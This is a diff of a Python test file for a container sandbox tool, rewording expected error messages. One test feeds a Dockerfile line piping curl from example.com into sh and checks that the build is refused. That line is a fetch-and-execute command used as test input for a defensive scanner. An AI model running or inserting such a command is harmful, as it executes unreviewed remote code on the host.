@@ -63,7 +63,7 @@ async def test_an_engine_on_another_machine_is_not_used(monkeypatch: pytest.Monk
 async def test_an_image_that_is_not_here_is_not_fetched() -> None:
     found = await find_sandbox(SandboxSettings(use="docker", image="nobody/nothing:0"))
     assert isinstance(found, str)
-    assert "Docker does not run programs here" in found
+    assert "Docker cannot run programs on this machine" in found
     assert not [name for name in containers() if str(os.getpid()) in name]
 
 
@@ -142,7 +142,7 @@ async def test_what_the_scan_finds_is_not_built(base: str) -> None:
     engine = await ContainerEngine.find("docker")
     assert isinstance(engine, ContainerEngine)
     why = await plan_image_build(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
-    assert why == "It was not built. Dockerfile, line 2: It runs what it fetches, or hides what it runs."
+    assert why == "The project was not built. Dockerfile, line 2: It runs a download, or hides what it runs."
 
 
 @pytest.mark.feature("S0.56")
